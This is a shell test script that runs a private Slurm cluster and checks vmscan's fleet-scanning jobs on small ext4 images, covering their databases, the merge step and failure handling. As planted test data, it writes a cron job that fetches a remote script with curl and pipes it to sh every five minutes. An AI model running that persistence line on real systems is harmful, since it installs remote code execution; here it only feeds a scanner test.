#!/bin/sh
# SPDX-License-Identifier: BSD-3-Clause
# TAP test of contrib/slurm/ (vmscan(1), FLEETS) on a real Slurm: a
# private single-node cluster started here, inside the work folder (its
# own munge key and munged socket, a slurm.conf with free ports, the
# host's CPUs and memory, state, spool, pid and log files in the folder,
# no cgroups), SLURM_CONF pointing to it for every command; the daemons
# are killed on the way out, whatever happens.  Nothing of the host's
# Slurm or munge is written: the test checks that their default folders
# did not change.
#
# On four small ext4 images (host data path, no appliance), two with the
# same file name in other folders, one name with spaces, two holding
# the same planted /usr/local/bin/x, one a planted cron job:
#   vmscan-slurm-submit (array throttled to 2, one CPU a task): both job
#     ids printed; every task COMPLETED with exit 0, the one whose scan
#     found something too (its status file says "1 findings"), then the
#     merge job; one database per image, named as vmscan --jobs-images
#     names them (its FLEET.d for the same list), its scan complete, its
#     images row the list's path and sha256sum of the image, the options
#     passed through (--data-path host, -j 1);
#   the fleet database the merge job made: the four scans (by uuid), a
#     fleet query for the images that hold x's sha256 (sha256sum of the
#     tree's file) giving exactly the two, and for the cron finding
#     exactly the one; the merge run again adds no row to any table; it
#     equals vmscan merge run here on the same databases (every row,
#     references followed, ids left out: fleet-compare.py);
#   a second list, a clean image and a text file (vmscan refuses it,
#     exit 2), throttled to 1: that task FAILED with exit 2, the other
#     COMPLETED, status files "0 clean" and "2 failed"; the merge job
#     FAILED (exit 1), naming the line, and merged the complete scan;
#   the images unchanged (sha256sum).
# Also, with python3-yaml, the Kubernetes example parsed (only that: its
# list counted against completions, its ConfigMap's two scripts written
# out), and shellcheck on contrib/slurm's scripts and those two.
# Needs root (slurmd runs the jobs as root; the trees keep root's
# owners), munged, slurmctld, slurmd, the Slurm client commands, mke2fs,
# sqlite3, python3, ss.
set -u

. "$(dirname "$0")/../lib.sh"
LC_ALL=C
export LC_ALL
slurm=$top_srcdir/contrib/slurm
kube=$top_srcdir/contrib/kubernetes

require_vmscan
require_root "slurmd runs the jobs as root; the trees keep root's owners"
require_cmd munged slurmctld slurmd sbatch squeue sinfo scontrol scancel \
  mke2fs sqlite3 python3 sha256sum ss
setup_work
cd "$work" || bail_out "cannot enter $work"

# ---- the cluster -----------------------------------------------------------

munged_pid='' ctld_pid='' slurmd_pid=''
stop_cluster () {
  if [ -n "$ctld_pid" ] && kill -0 "$ctld_pid" 2> /dev/null; then
    # Jobs first, while slurmd can still end their steps.
    _ids=$(squeue -h -o %A 2> /dev/null | sort -u)
    if [ -n "$_ids" ]; then
      # shellcheck disable=SC2086
      scancel $_ids 2> /dev/null
      _t=15
      while [ $_t -gt 0 ] && [ -n "$(squeue -h -o %A 2> /dev/null)" ]; do
        sleep 1
        _t=$((_t - 1))
      done
    fi
  fi
  for _p in $slurmd_pid $ctld_pid $munged_pid; do
    kill "$_p" 2> /dev/null
  done
  for _p in $slurmd_pid $ctld_pid $munged_pid; do
    wait "$_p" 2> /dev/null
  done
  munged_pid='' ctld_pid='' slurmd_pid=''
}
trap 'stop_cluster; _tl_exit' EXIT

# The daemons' logs, their ends, as TAP comments.  Run with -D, each
# also writes its log to its standard error (DAEMON.out): that one only
# when the log file is empty (the daemon died before it opened it).
logs () {
  for _d in munged slurmctld slurmd; do
    _f=log/$_d.log
    [ -s "$_f" ] || _f=log/$_d.out
    [ -s "$_f" ] || continue
    diag "$_f (last lines):"
    tail -n 12 "$_f" | diag
  done
}

# Where the host's Slurm and munge keep things: none may change.
system_paths="/etc/slurm /etc/munge /var/lib/slurm /var/log/slurm
  /var/lib/munge /var/log/munge /run/munge /run/slurm /var/spool/slurmd
  /var/spool/slurmctld /var/spool/slurm"
system_state () {
  for _d in $system_paths; do
    if [ -e "$_d" ]; then
      echo "$_d"
      find "$_d" -newer stamp 2> /dev/null
    fi
  done
}
touch stamp
sleep 1
system_before=$(system_state)

mkdir -p munge run state spool log
chmod 700 munge
chmod 755 run
sock=$work/run/munge.sock
[ ${#sock} -lt 100 ] \
  || skip_all "the work folder's path is too long for a socket: $sock"
dd if=/dev/urandom of=munge/munge.key bs=1024 count=1 2> /dev/null \
  && chmod 400 munge/munge.key || bail_out "cannot write a munge key"
munged -F --socket="$sock" --key-file="$work/munge/munge.key" \
  --pid-file="$work/run/munged.pid" --log-file="$work/log/munged.log" \
  --seed-file="$work/munge/munged.seed" > log/munged.out 2>&1 &
munged_pid=$!

# Two free ports next to each other.
port_used () {
  ss -Htln | awk '{ print $4 }' | grep -q ":$1\$"
}
port=$((36000 + ($$ % 1500) * 2))
tries=0
while port_used "$port" || port_used $((port + 1)); do
  tries=$((tries + 1))
  [ $tries -lt 50 ] || skip_all "no two free TCP ports from 36000 on"
  port=$((port + 2))
done

node=$(hostname -s)
hw=$(slurmd -C 2> /dev/null | sed -n 's/^NodeName=[^ ]* //p' | head -n 1)
case $hw in
  *CPUs=*RealMemory=*) ;;
  *) skip_all "slurmd -C did not say this machine's CPUs and memory" ;;
esac
cat > slurm.conf <<EOF
# A private single-node cluster for tests/e2e/test-slurm.sh.
ClusterName=vmscantest
SlurmctldHost=$node(127.0.0.1)
SlurmctldPort=$port
SlurmdPort=$((port + 1))
SlurmUser=root
SlurmdUser=root
AuthType=auth/munge
AuthInfo=socket=$sock
CredType=cred/munge
StateSaveLocation=$work/state
SlurmdSpoolDir=$work/spool
SlurmctldPidFile=$work/run/slurmctld.pid
SlurmdPidFile=$work/run/slurmd.pid
SlurmctldLogFile=$work/log/slurmctld.log
SlurmdLogFile=$work/log/slurmd.log
ProctrackType=proctrack/linuxproc
TaskPlugin=task/none
JobAcctGatherType=jobacct_gather/none
AccountingStorageType=accounting_storage/none
JobCompType=jobcomp/none
SelectType=select/cons_tres
SelectTypeParameters=CR_CPU
MpiDefault=none
MailProg=/bin/true
ReturnToService=2
MinJobAge=3600
NodeName=$node NodeAddr=127.0.0.1 $hw State=UNKNOWN
PartitionName=scan Nodes=$node Default=YES MaxTime=INFINITE State=UP
EOF
SLURM_CONF=$work/slurm.conf
export SLURM_CONF

t=10
while [ $t -gt 0 ] && [ ! -S "$sock" ] && kill -0 "$munged_pid" 2> /dev/null
do
  sleep 1
  t=$((t - 1))
done
if [ ! -S "$sock" ]; then
  logs
  skip_all "munged did not start on a private socket (log above)"
fi
slurmctld -D -f "$SLURM_CONF" > log/slurmctld.out 2>&1 &
ctld_pid=$!
slurmd -D -N "$node" -f "$SLURM_CONF" > log/slurmd.out 2>&1 &
slurmd_pid=$!
t=45
st=
while [ $t -gt 0 ]; do
  st=$(sinfo -h -n "$node" -o %t 2> /dev/null)
  [ "$st" = idle ] && break
  kill -0 "$ctld_pid" 2> /dev/null && kill -0 "$slurmd_pid" 2> /dev/null \
    || break
  sleep 1
  t=$((t - 1))
done
if [ "$st" != idle ]; then
  logs
  skip_all "the private Slurm cluster did not come up (node state '${st:-none}' after at most 45 s; the daemons' logs above)"
fi

plan 20

# ---- the scripts -----------------------------------------------------------

# The Kubernetes example: parsed, and the scripts its ConfigMap holds
# written out for shellcheck (it is not run on a Kubernetes here).
if python3 -c 'import yaml' 2> /dev/null; then
  python3 - "$kube/vmscan-fleet.yaml" > yaml.out 2>&1 <<'EOF'
import sys, yaml
docs = [d for d in yaml.safe_load_all(open(sys.argv[1])) if d]
cm = [d for d in docs if d["kind"] == "ConfigMap"][0]
jobs = [d for d in docs if d["kind"] == "Job"]
idx = [j for j in jobs if j["spec"].get("completionMode") == "Indexed"][0]
lines = [l for l in cm["data"]["images.list"].split("\n") if l]
for k in ("scan.sh", "merge.sh"):
    open("k8s-" + k, "w").write(cm["data"][k])
print([d["kind"] for d in docs], len(lines), idx["spec"]["completions"])
sys.exit(0 if len(jobs) == 2 and idx["spec"]["completions"] == len(lines)
         else 1)
EOF
  rc=$?
  ok $rc \
    "the Kubernetes example parses: a ConfigMap, an Indexed Job of as many completions as the list has lines, a merge Job"
  [ $rc -eq 0 ] || diag < yaml.out
else
  skip "python3-yaml not installed: the Kubernetes example not parsed"
fi

if command -v shellcheck > /dev/null 2>&1; then
  set -- "$slurm/vmscan-slurm-submit" "$slurm/vmscan-slurm-task" \
    "$slurm/vmscan-slurm-merge"
  [ -f k8s-scan.sh ] && set -- "$@" k8s-scan.sh k8s-merge.sh
  shellcheck -s sh "$@" > shellcheck.out 2>&1
  rc=$?
  ok $rc "shellcheck: the three scripts of contrib/slurm and the Kubernetes example's ($# files)"
  [ $rc -eq 0 ] || diag < shellcheck.out
else
  skip "shellcheck not installed"
fi

# ---- the images ------------------------------------------------------------

mktree () {
  mkdir -p "$1/etc/cron.d" "$1/srv"
  printf 'ID=debian\nVERSION_ID="12"\nPRETTY_NAME="Debian GNU/Linux 12"\n' \
    > "$1/etc/os-release"
  echo "$2" > "$1/etc/hostname"
  printf 'root:x:0:0:root:/root:/bin/bash\n' > "$1/etc/passwd"
  printf 'notes of %s\n' "$2" > "$1/srv/notes.txt"
}
plant_x () {
  mkdir -p "$1/usr/local/bin"
  printf '#!/bin/sh\n# planted by test-slurm.sh\necho fleet-marker-7f3a\n' \
    > "$1/usr/local/bin/x"
  chmod 755 "$1/usr/local/bin/x"
}
mkimg () {
  mkdir -p "$(dirname "$2")"
  truncate -s 16M "$2" && mke2fs -q -F -t ext4 -d "$1" "$2"
}
mktree tree0 web01
plant_x tree0
mktree tree1 web01-b
plant_x tree1
mktree tree2 db01
printf '*/5 * * * * root curl -s http://203.0.113.9/x | sh\n' \
  > tree2/etc/cron.d/sync
mktree tree3 build7
img0=images/a/web01.raw
img1=images/b/web01.raw
img2=images/db01.raw
img3='images/c/build 7 (old).img'
mkimg tree0 "$img0" && mkimg tree1 "$img1" && mkimg tree2 "$img2" \
  && mkimg tree3 "$img3" || bail_out "mke2fs failed"
printf 'a text file, not a disk image\n' > images/notes.txt
# Relative paths: the jobs start here, the folder sbatch was run in.
printf '%s\n' "$img0" "$img1" "$img2" "$img3" > list1
printf '%s\n' "$img3" images/notes.txt > list2
sums_before=$(find images -type f -exec sha256sum {} + | sort)
xsum=$(sha256sum < tree0/usr/local/bin/x | cut -d' ' -f1)
[ "$(sha256sum < tree1/usr/local/bin/x | cut -d' ' -f1)" = "$xsum" ] \
  || bail_out "the two planted files differ"
sum () {
  sha256sum < "$1" | cut -d' ' -f1
}

# ---- two submissions -------------------------------------------------------

ids () {
  awk -v w="$1" '$1 == w { print $2 }' "$2"
}
throttle () {
  scontrol -o show job "$1" 2> /dev/null \
    | sed -n 's/.*ArrayTaskThrottle=\([0-9]*\).*/\1/p' | head -n 1
}
VMSCAN_SLURM_LIMIT=2 VMSCAN_SLURM_CPUS=1 "$slurm/vmscan-slurm-submit" \
  list1 out1 --data-path host > submit1.out 2> submit1.err
rc=$?
array1=$(ids array submit1.out)
merge1=$(ids merge submit1.out)
th=$(throttle "$array1")
ok "$([ $rc -eq 0 ] && [ -n "$array1" ] && [ -n "$merge1" ] \
  && [ "$th" = 2 ]; echo $?)" \
  "submit: exit $rc, array $array1 (throttle ${th:-none}) and merge $merge1"
[ $rc -eq 0 ] || diag < submit1.err
VMSCAN_SLURM_LIMIT=1 "$slurm/vmscan-slurm-submit" list2 out2 \
  --data-path host > submit2.out 2> submit2.err
rc=$?
array2=$(ids array submit2.out)
merge2=$(ids merge submit2.out)
th=$(throttle "$array2")
ok "$([ $rc -eq 0 ] && [ -n "$array2" ] && [ -n "$merge2" ] \
  && [ "$th" = 1 ]; echo $?)" \
  "submit, a list with a bad entry: exit $rc, array $array2 (throttle ${th:-none}) and merge $merge2"
[ $rc -eq 0 ] || diag < submit2.err
[ -n "$array1" ] && [ -n "$merge1" ] && [ -n "$array2" ] && [ -n "$merge2" ] \
  || { logs; bail_out "sbatch did not give the job ids"; }

# "TASK STATE EXIT" a line for each record of job $1 (TASK - for a job
# that is no array), in task order.
states () {
  scontrol -o show job "$1" 2> /dev/null | awk '{
    t = "-"; s = "?"; e = "?"
    for (i = 1; i <= NF; i++) {
      n = index($i, "="); k = substr($i, 1, n - 1); v = substr($i, n + 1)
      if (k == "ArrayTaskId") t = v
      else if (k == "JobState") s = v
      else if (k == "ExitCode") e = v
    }
    print t, s, e
  }' | sort -n | tr '\n' ' '
}
t=120
while [ $t -gt 0 ]; do
  all="$(states "$array1")$(states "$merge1")$(states "$array2")$(states \
    "$merge2")"
  case $all in
    *PENDING*|*RUNNING*|*COMPLETING*|*CONFIGURING*|*REQUEUE*|*SUSPENDED*|*'?'*|'')
      ;;
    *) break ;;
  esac
  sleep 1
  t=$((t - 1))
done
ok "$([ $t -gt 0 ]; echo $?)" "the four jobs ended within 120 s ($all)"
[ $t -gt 0 ] || logs

# ---- the first run: every image scanned ------------------------------------

is "$(states "$array1")| $(states "$merge1")" \
  "0 COMPLETED 0:0 1 COMPLETED 0:0 2 COMPLETED 0:0 3 COMPLETED 0:0 | - COMPLETED 0:0 " \
  "every task COMPLETED with exit 0 (a scan with findings too), then the merge"
names="001-web01.raw 002-web01.raw 003-db01.raw 004-build_7__old_.img"
st=
for n in $names; do
  st="$st$n:$(cat "out1/$n.status" 2> /dev/null) "
done
is "$st" \
  "001-web01.raw:0 clean 002-web01.raw:0 clean 003-db01.raw:1 findings 004-build_7__old_.img:0 clean " \
  "status files: the cron image 1 findings, the others 0 clean"
# The names vmscan --jobs-images gives the same images, in its FLEET.d.
set --
while IFS= read -r img; do
  set -- "$@" "$img"
done < list1
"$VMSCAN" -q --jobs-images 2 --data-path host -o jobs.db "$@" > jobs.out 2>&1
jobs=$(cd jobs.d 2> /dev/null && ls -- *.db | tr '\n' ' ')
got=$(cd out1 && ls -- *.db | grep -v '^fleet\.db$' | tr '\n' ' ')
ok "$([ "$got" = "$(printf '%s.db ' $names)" ] && [ "$got" = "$jobs" ]
  echo $?)" \
  "one database per image (fleet.db beside), named as vmscan --jobs-images names them"
[ "$got" = "$jobs" ] || diag "here:  $got" "jobs-images: $jobs"

got= want= i=0
while IFS= read -r img; do
  set -- $names
  shift $i
  db=out1/$1.db
  got="$got$(sqlite3 -separator '|' "$db" "SELECT s.status, i.path, i.sha256
    FROM scans s JOIN images i ON i.scan_id = s.id") "
  want="${want}complete|$img|$(sum "$img") "
  i=$((i + 1))
done < list1
is "$got" "$want" \
  "each database: one complete scan of its list line, sha256 as sha256sum's"
bad=0
for n in $names; do
  db=out1/$n.db
  sqlite3 "$db" "SELECT command_line FROM scans" \
    | grep -q -- ' -j 1 .*--data-path host' || bad=$((bad + 1))
  [ "$(sqlite3 "$db" "SELECT count(*) FROM filesystems
     WHERE data_path IS NOT 'host'")" = 0 ] || bad=$((bad + 1))
done
is "$bad" 0 \
  "the options passed through (-j 1 from the CPUs, --data-path host): every filesystem read on the host"

fleet=out1/fleet.db
got=$(sqlite3 -separator ' ' "$fleet" "SELECT s.uuid, i.path, i.sha256
  FROM scans s JOIN images i ON i.scan_id = s.id ORDER BY s.uuid" 2>&1)
want=$(for n in $names; do
  sqlite3 -separator ' ' "out1/$n.db" "SELECT s.uuid, i.path, i.sha256
    FROM scans s JOIN images i ON i.scan_id = s.id"
done | sort)
ok "$([ -n "$want" ] && [ "$got" = "$want" ] \
  && [ "$(sqlite3 "$fleet" "SELECT count(*) FROM scans" 2>&1)" = 4 ]; echo $?)" \
  "the fleet database: the four scans, by uuid, with their images"
[ "$got" = "$want" ] || diag "got:" "$got" "want:" "$want"

is "$(sqlite3 -separator ' ' "$fleet" "SELECT DISTINCT image_path,
  image_sha256 FROM fleet_files WHERE sha256 = '$xsum' ORDER BY 1" 2>&1)" \
  "$(printf '%s %s\n' "$img0" "$(sum "$img0")" "$img1" "$(sum "$img1")")" \
  "fleet query: the images holding x's sha256 are the two it was planted in"
is "$(sqlite3 -separator ' ' "$fleet" "SELECT DISTINCT image_path,
  image_sha256 FROM fleet_findings WHERE check_id = 'persistence.cron'
  ORDER BY 1" 2>&1)" \
  "$img2 $(sum "$img2")" \
  "fleet query: the cron finding is in the one image it was planted in"

counts () {
  for _t in $(sqlite3 "$1" "SELECT name FROM sqlite_master
                WHERE type = 'table' ORDER BY name"); do
    printf '%s=%s ' "$_t" "$(sqlite3 "$1" "SELECT count(*) FROM \"$_t\"")"
  done
}
before=$(counts "$fleet")
"$slurm/vmscan-slurm-merge" list1 out1 "$fleet" > remerge.out 2>&1
rc=$?
is "$rc: $(counts "$fleet")" "0: $before" \
  "the merge run again: exit 0, no row added to any table"
[ $rc -eq 0 ] || diag < remerge.out

set --
for n in $names; do
  set -- "$@" "out1/$n.db"
done
# A vmscan without merge would scan "merge" and the databases as images.
if "$VMSCAN" merge --help 2> /dev/null | grep -q 'vmscan merge'; then
  "$VMSCAN" merge direct.db "$@" > direct.out 2>&1
  rc=$?
else
  echo "$VMSCAN has no merge command" > direct.out
  rc=2
fi
python3 "$here/fleet-compare.py" "$fleet" direct.db > compare.out 2>&1
rc2=$?
ok "$([ $rc -eq 0 ] && [ $rc2 -eq 0 ]; echo $?)" \
  "the merge job's database equals vmscan merge of the same databases run here (every row, ids left out; merge exit $rc, compare exit $rc2)"
[ $rc -eq 0 ] || diag < direct.out
[ $rc2 -eq 0 ] || diag < compare.out

# ---- the second run: a task that fails ---------------------------------------

is "$(states "$array2")| $(states "$merge2") | $(cat \
  out2/001-build_7__old_.img.status out2/002-notes.txt.status \
  2> /dev/null | tr '\n' ' ')" \
  "0 COMPLETED 0:0 1 FAILED 2:0 | - FAILED 1:0  | 0 clean 2 failed " \
  "a scan that fails: its task FAILED with exit 2, and so did the merge"
grep -q 'line 2, images/notes.txt: ' out2/logs/merge-"$merge2".out
ok $? "the merge job's log names the image with no complete scan"
is "$(sqlite3 out2/fleet.db "SELECT uuid FROM scans" 2>&1)" \
  "$(sqlite3 out2/001-build_7__old_.img.db "SELECT uuid FROM scans")" \
  "the merge job merged the one complete scan all the same"

# ---- the host ----------------------------------------------------------------

is "$(find images -type f -exec sha256sum {} + | sort)" "$sums_before" \
  "the images were not changed"
stop_cluster
is "$(system_state)" "$system_before" \
  "the host's Slurm and munge folders did not change"
test_done
